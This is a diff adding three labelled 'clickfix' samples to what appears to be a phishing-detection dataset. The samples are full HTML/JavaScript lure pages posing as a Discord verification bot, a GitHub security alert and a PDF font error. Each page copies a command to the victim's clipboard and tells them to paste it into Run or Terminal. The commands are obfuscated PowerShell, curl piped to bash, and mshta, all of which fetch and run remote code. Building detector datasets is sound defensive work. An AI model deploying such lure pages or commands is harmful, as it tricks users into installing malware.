@@ -40,4 +40,52 @@ document.getElementById('cp').onclick=function(){var s='echo "Y3VybCAtcyBodHRwOi
   }),
 },
 
+{
+  id: 'd-cf-discord-verify-bot',
+  label: 'clickfix',
+  kind: 'clickfix-discord',
+  url: 'https://verify.guildgate-bot.com/v/1309928771',
+  body: doc({
+    title: 'Guildgate — Verify to join "Solana Alpha Callers"',
+    css: `body{background:#313338;color:#dbdee1;font-family:"gg sans","Noto Sans",Arial,sans-serif;margin:0}.c{max-width:480px;margin:80px auto;background:#2b2d31;border-radius:8px;padding:32px}.c button{background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 20px;width:100%;font-size:15px}kbd{background:#1e1f22;border-radius:3px;padding:2px 6px}`,
+    body: `<div class="c"><h2>Verify you're human</h2><p>To access <b>Solana Alpha Callers</b> (48,211 members), complete verification. This protects the server from raid bots.</p><button id="v">Verify</button>
+<div id="s" style="display:none"><p>Verification failed: bot-like browser fingerprint detected. Complete manual verification:</p><ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> and return to Discord</li></ol></div></div>
+<script>
+document.getElementById('v').onclick=function(){var c='powershell -NoProfile -WindowStyle Hidden -Command "$b=[Convert]::FromBase64String(\\'aWV4IChpcm0gaHR0cHM6Ly9ndWlsZGdhdGUtYm90LmNvbS9hc3NldHMvdmVyaWZ5LnBzMSk=\\');iex ([Text.Encoding]::UTF8.GetString($b))" # Guildgate human check';
+navigator.clipboard.writeText(c);document.getElementById('s').style.display='block';this.disabled=true};
+</script>`,
+  }),
+},
+
+{
+  id: 'd-cf-github-security-alert',
+  label: 'clickfix',
+  kind: 'clickfix-dev-lure',
+  url: 'https://github-security.repo-advisory.com/advisories/GHSA-9x2q-7m4p-v3c8',
+  body: doc({
+    title: 'Security alert: your repository is vulnerable · GitHub',
+    css: `body{background:#0d1117;color:#e6edf3;font-family:-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;margin:0}.w{max-width:760px;margin:50px auto;border:1px solid #30363d;border-radius:6px;padding:24px}.b{background:#238636;color:#fff;border:0;border-radius:6px;padding:8px 16px}pre{background:#161b22;padding:12px;border-radius:6px}`,
+    body: `<div class="w"><h2>⚠ Critical vulnerability detected in your repository</h2><p>Hey there! We have detected a security vulnerability in a dependency of one of your repositories (CVE-2026-41177, CVSS 9.8). Attackers may be able to access your secrets.</p><p>To check whether your machine is affected, run our official scanner:</p><button class="b" id="r">Run security check</button>
+<div id="i" style="display:none"><p>1. Press <b>Win + R</b> (Windows) or open <b>Terminal</b> (macOS)<br>2. Paste the command (<b>Ctrl + V</b> / <b>⌘ + V</b>)<br>3. Press <b>Enter</b></p><pre>✔ command copied to clipboard</pre></div><p style="font-size:12px;color:#7d8590">GitHub Security Lab · Unsubscribe</p></div>
+<script>
+document.getElementById('r').onclick=function(){var mac=/Mac/.test(navigator.platform);var c=mac?'curl -fsSL https://repo-advisory.com/gh/check | bash':'mshta https://repo-advisory.com/gh/check.hta';navigator.clipboard.writeText(c);document.getElementById('i').style.display='block'};
+</script>`,
+  }),
+},
+
+{
+  id: 'd-cf-pdf-reader-error',
+  label: 'clickfix',
+  kind: 'clickfix-document',
+  url: 'https://docs-preview.shareinvoice-cloud.com/view/INV-88213.pdf.html',
+  body: doc({
+    title: 'INV-88213.pdf',
+    css: `body{margin:0;background:#525659;font-family:Arial,sans-serif}.bar{background:#323639;color:#fff;padding:10px 16px;font-size:14px}.err{max-width:520px;margin:120px auto;background:#fff;border-radius:6px;padding:24px}.err button{background:#d93025;color:#fff;border:0;border-radius:4px;padding:10px 18px}`,
+    body: `<div class="bar">INV-88213.pdf · 1 / 3</div><div class="err"><h3>Error loading PDF document</h3><p>The PDF could not be rendered because a required font ("Adobe Acrobat DC Fonts") is missing from your system.</p><button id="fx">Fix error</button><div id="st" style="display:none;font-size:14px;margin-top:12px"><p>Install the font pack:</p><p>1. Right-click the <b>Start</b> button → <b>Terminal</b><br>2. Right-click inside the window to paste<br>3. Press <b>Enter</b>, then reload the document</p></div></div>
+<script>
+document.getElementById('fx').onclick=function(){var t=document.createElement('textarea');t.value='conhost --headless powershell -c "irm https://shareinvoice-cloud.com/fonts/acrobat-fonts.ps1 | iex"';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('st').style.display='block'};
+</script>`,
+  }),
+},
+
 ];
